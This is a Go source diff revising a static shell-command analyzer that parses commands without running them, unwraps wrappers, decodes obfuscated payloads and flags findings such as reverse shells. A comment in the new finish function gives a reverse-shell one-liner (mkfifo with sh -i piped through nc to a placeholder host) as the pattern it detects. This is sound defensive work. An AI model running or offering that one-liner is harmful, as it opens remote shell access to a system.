@@ -1,13 +1,19 @@
-// Package shell analyzes shell commands the way the shell will run them:
-// it parses them with mvdan.cc/sh (never executing anything), resolves
-// quoting, expands what can be known without running code, unwraps
-// wrappers such as sudo and bash -c, and records every command the shell
-// would run and every path it would touch.
+// Package shell analyzes shell commands the way the shell will run them.
+//
+// It parses with mvdan.cc/sh/v3 and never executes anything. It resolves
+// what can be known without running code (quoting, ANSI-C strings, brace
+// expansion, ${IFS}, variables, arrays, aliases and functions defined in
+// the same command line, command substitutions whose output is plain
+// text), unwraps wrappers (sudo, env, xargs, find -exec, bash -c, ssh,
+// docker exec, ...), decodes obfuscated payloads that are piped into a
+// shell (base64, hex, rot13, rev, gzip, printf escapes), looks into
+// interpreter one-liners (python -c, node -e, perl -e, awk, PowerShell),
+// and records every command the shell would run, every path it would
+// touch, and findings about what it would do.
 package shell
 
 import (
 	"context"
-	"path"
 	"strings"
 
 	"mvdan.cc/sh/v3/syntax"
@@ -16,18 +22,15 @@ import (
 	"github.com/agentward/ward/internal/analyze"
 )
 
-// Limits on the work one command can cause.
+// Limits on the work one command can cause. Reaching one is itself a
+// finding (shell.too_complex): what ward could not look at, it reports.
 const (
-	MaxScript   = 256 << 10 // bytes of script parsed, including nested ones
-	MaxDepth    = 8         // nesting of bash -c, eval and the like
-	MaxCommands = 512       // simple commands recorded
-)
-
-// Finding ids the analyzer emits.
-const (
-	FindingUnparsed       = "shell.unparsed"
-	FindingDynamicCommand = "shell.dynamic_command"
-	FindingTooComplex     = "shell.too_complex"
+	MaxScript    = 256 << 10 // bytes of script parsed, including nested and decoded ones
+	MaxDepth     = 8         // nesting of bash -c, eval, decoded payloads, functions
+	MaxCommands  = 512       // simple commands recorded
+	MaxSteps     = 20000     // statements walked, statically evaluated included
+	MaxText      = 256 << 10 // bytes of text a static evaluation may produce
+	maxLoopItems = 8         // items of a for loop walked one by one
 )
 
 // Analyzer is the shell analyzer.
@@ -41,123 +44,130 @@ var (
 // Name implements analyze.Analyzer.
 func (Analyzer) Name() string { return "shell" }
 
-// Catalog implements analyze.Cataloger.
-func (Analyzer) Catalog() []analyze.FindingSpec {
-	return []analyze.FindingSpec{
-		{ID: FindingUnparsed, Severity: event.Medium, Doc: "the command is not valid shell syntax, so ward cannot tell what it does"},
-		{ID: FindingDynamicCommand, Severity: event.Medium, Doc: "a command's name is only known when it runs (it comes from a substitution or an unknown variable)"},
-		{ID: FindingTooComplex, Severity: event.Medium, Doc: "the command nests or repeats beyond what ward analyzes"},
-	}
-}
-
 // Analyze implements analyze.Analyzer.
 func (Analyzer) Analyze(ctx context.Context, s *analyze.Subject) error {
 	if s.Event.Action.Kind != event.KindShell {
 		return nil
 	}
-	w := &walker{ctx: ctx, s: s, env: newEnv(s.Env.Home, s.Event.Cwd)}
-	w.script(s.Event.Action.Command, 0, nil)
+	w := newWalker(ctx, s)
+	w.script(s.Event.Action.Command, w.rootScope())
+	w.finish()
 	return ctx.Err()
+}
+
+// finish draws conclusions from the whole command line: a network
+// connection and a shell started in it make a reverse shell, as in
+// "mkfifo f; sh -i < f | nc host 4242 > f".
+func (w *walker) finish() {
+	if w.netConn && w.shellStarted || w.netShell && w.shellStarted {
+		w.find(FindingReverseShell, "a shell and a network connection are wired together", w.s.Event.Action.Command)
+	}
 }
 
 // walker walks one command line and everything nested in it.
 type walker struct {
-	ctx    context.Context
-	s      *analyze.Subject
-	env    *env
-	parsed int // bytes parsed so far
+	ctx     context.Context
+	s       *analyze.Subject
+	parsed  int
+	steps   int
+	funcs   map[string]*syntax.Stmt
+	aliases map[string]string
+	calling map[string]int // function calls under way, to bound recursion
+	found   map[string]bool
+	// executables are files the command line makes executable (chmod +x),
+	// to catch them being handed to another program to run.
+	executables map[string]bool
+	// written holds what the command line wrote into files, by resolved
+	// path, so that running them later is analyzed.
+	written map[string]string
+	// netConn and shellStarted together make a reverse shell: a network
+	// connection and a shell not fed a known script, in one command line.
+	netConn, shellStarted, netShell bool
 }
 
-// script parses src and walks it. via lists the wrappers src was found in.
-func (w *walker) script(src string, depth int, via []string) {
-	if depth > MaxDepth || w.parsed+len(src) > MaxScript {
+func newWalker(ctx context.Context, s *analyze.Subject) *walker {
+	return &walker{ctx: ctx, s: s, funcs: map[string]*syntax.Stmt{},
+		aliases: map[string]string{}, calling: map[string]int{}, found: map[string]bool{},
+		executables: map[string]bool{}, written: map[string]string{}}
+}
+
+// scope is what a statement is walked in: the variables it sees, how deep
+// it is nested, and the wrappers it was found inside.
+type scope struct {
+	env   *env
+	depth int
+	via   []string
+}
+
+func (w *walker) rootScope() *scope {
+	return &scope{env: newEnv(w, w.s.Env.Home, w.s.Event.Cwd)}
+}
+
+// nested returns a scope one level deeper, found inside label.
+func (sc *scope) nested(label string) *scope {
+	via := make([]string, len(sc.via), len(sc.via)+1)
+	copy(via, sc.via)
+	if label != "" {
+		via = append(via, label)
+	}
+	return &scope{env: sc.env, depth: sc.depth + 1, via: via}
+}
+
+// parse parses src as bash, within the parse budget.
+func (w *walker) parse(src string, sc *scope) (*syntax.File, bool) {
+	if sc.depth > MaxDepth || w.parsed+len(src) > MaxScript {
 		w.tooComplex("the command nests too deeply or is too long to analyze")
-		return
+		return nil, false
 	}
 	w.parsed += len(src)
 	f, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(src), "")
 	if err != nil {
-		w.s.AddFinding(event.Finding{ID: FindingUnparsed, Severity: event.Medium,
-			Message: "the command is not valid shell syntax", Evidence: err.Error()})
+		w.find(FindingUnparsed, "the command is not valid shell syntax", err.Error())
+		return nil, false
+	}
+	return f, true
+}
+
+// script parses src and walks it.
+func (w *walker) script(src string, sc *scope) {
+	if f, ok := w.parse(src, sc); ok {
+		w.stmts(f.Stmts, sc)
+	}
+}
+
+// find records a finding once per id and evidence.
+func (w *walker) find(id, msg, evidence string) {
+	if len(evidence) > 300 {
+		evidence = evidence[:297] + "..."
+	}
+	if id == FindingInteractive || id == FindingPipeExec {
+		w.shellStarted = true
+	}
+	key := id + "\x00" + evidence
+	if w.found[key] {
 		return
 	}
-	syntax.Walk(f, func(n syntax.Node) bool {
-		if w.ctx.Err() != nil {
-			return false
-		}
-		switch n := n.(type) {
-		case *syntax.CallExpr:
-			w.call(n, depth, via)
-		case *syntax.Redirect:
-			w.redirect(n)
-		}
-		return true
-	})
+	w.found[key] = true
+	w.s.AddFinding(event.Finding{ID: id, Severity: severityOf(id), Message: msg, Evidence: evidence})
 }
 
 func (w *walker) tooComplex(msg string) {
-	for _, f := range w.s.Findings {
-		if f.ID == FindingTooComplex {
-			return
+	w.find(FindingTooComplex, msg, "")
+}
+
+// step counts one unit of work and reports whether the budget allows it.
+func (w *walker) step() bool {
+	w.steps++
+	if w.steps > MaxSteps || w.ctx.Err() != nil {
+		if w.steps == MaxSteps+1 {
+			w.tooComplex("the command has more statements than ward walks")
 		}
+		return false
 	}
-	w.s.AddFinding(event.Finding{ID: FindingTooComplex, Severity: event.Medium, Message: msg})
+	return true
 }
 
-// call records one simple command.
-func (w *walker) call(c *syntax.CallExpr, depth int, via []string) {
-	if len(c.Args) == 0 {
-		w.env.assign(c.Assigns)
-		return
-	}
-	args, dynamic := w.env.fields(c.Args)
-	if dynamic[0] {
-		w.record(event.Command{Args: args[1:], Via: via})
-		w.s.AddFinding(event.Finding{ID: FindingDynamicCommand, Severity: event.Medium,
-			Message:  "the command's name is only known when it runs",
-			Evidence: printWord(c.Args[0])})
-		return
-	}
-	w.command(args, dynamic, depth, via)
-}
-
-// command records a command given as resolved words, unwrapping wrappers.
-func (w *walker) command(args []string, dynamic []bool, depth int, via []string) {
-	if len(args) == 0 || args[0] == "" {
-		return
-	}
-	if depth > MaxDepth {
-		w.tooComplex("wrappers nest too deeply to analyze")
-		return
-	}
-	prog := args[0]
-	name := path.Base(prog)
-	cmd := event.Command{Name: name, Args: args[1:], Via: via}
-	if prog != name {
-		cmd.Path = prog
-	}
-	w.record(cmd)
-	if inner, innerDyn, label, ok := unwrap(name, args[1:], dynamic[1:]); ok {
-		w.command(inner, innerDyn, depth+1, appendVia(via, label))
-		return
-	}
-	if src, label, ok := shellString(name, args[1:]); ok {
-		w.script(src, depth+1, appendVia(via, label))
-		return
-	}
-	for _, ref := range pathRoles(name, markDynamic(args[1:], dynamic[1:])) {
-		if !strings.HasPrefix(ref.Path, dynamicMark) {
-			w.s.AddPath(ref.Path, ref.Op, name+" argument")
-		}
-	}
-}
-
-func appendVia(via []string, label string) []string {
-	out := make([]string, len(via), len(via)+1)
-	copy(out, via)
-	return append(out, label)
-}
-
+// record adds a command to the facts.
 func (w *walker) record(c event.Command) {
 	cmds := &w.s.Facts.Shell.Commands
 	if len(*cmds) >= MaxCommands {
@@ -167,42 +177,13 @@ func (w *walker) record(c event.Command) {
 	*cmds = append(*cmds, c)
 }
 
-// redirect records the file a redirection reads or writes.
-func (w *walker) redirect(r *syntax.Redirect) {
-	if r.Word == nil || r.Hdoc != nil {
+// addPath records a path, skipping streams and values only known at run
+// time.
+func (w *walker) addPath(p string, op event.PathOp, recursive bool, source string) {
+	if p == "" || strings.HasPrefix(p, dynamicMark) || pseudoFile(p) {
 		return
 	}
-	var op event.PathOp
-	switch r.Op {
-	case syntax.RdrOut, syntax.AppOut, syntax.RdrClob, syntax.RdrAll, syntax.RdrAllClob, syntax.AppAll, syntax.RdrInOut:
-		op = event.OpWrite
-	case syntax.RdrIn:
-		op = event.OpRead
-	default:
-		return // duplications such as 2>&1, here-strings
-	}
-	target, dyn := w.env.word(r.Word)
-	if dyn || pseudoFile(target) {
-		return
-	}
-	w.s.AddPath(target, op, "redirection")
-}
-
-// pseudoFile reports whether p names a stream rather than a file.
-func pseudoFile(p string) bool {
-	switch p {
-	case "/dev/null", "/dev/stdout", "/dev/stderr", "/dev/stdin", "/dev/tty", "/dev/zero", "-":
-		return true
-	}
-	return strings.HasPrefix(p, "/dev/fd/")
-}
-
-func printWord(w *syntax.Word) string {
-	var b strings.Builder
-	if err := syntax.NewPrinter().Print(&b, w); err != nil {
-		return ""
-	}
-	return b.String()
+	w.s.AddRef(analyze.PathRef{Path: p, Op: op, Recursive: recursive, Source: source})
 }
 
 // dynamicMark prefixes arguments whose value is only known at run time, so
@@ -210,13 +191,22 @@ func printWord(w *syntax.Word) string {
 // taken for a path. A NUL cannot occur in a real argument.
 const dynamicMark = "\x00"
 
-func markDynamic(args []string, dynamic []bool) []string {
-	out := make([]string, len(args))
-	for i, a := range args {
-		if dynamic[i] {
-			a = dynamicMark + a
-		}
-		out[i] = a
+func isDynamic(arg string) bool { return strings.HasPrefix(arg, dynamicMark) }
+
+// pseudoFile reports whether p names a stream rather than a file.
+func pseudoFile(p string) bool {
+	switch p {
+	case "/dev/null", "/dev/stdout", "/dev/stderr", "/dev/stdin", "/dev/tty", "/dev/zero",
+		"/dev/random", "/dev/urandom", "-":
+		return true
 	}
-	return out
+	return strings.HasPrefix(p, "/dev/fd/")
+}
+
+func printNode(n syntax.Node) string {
+	var b strings.Builder
+	if err := syntax.NewPrinter(syntax.SingleLine(true)).Print(&b, n); err != nil {
+		return ""
+	}
+	return b.String()
 }
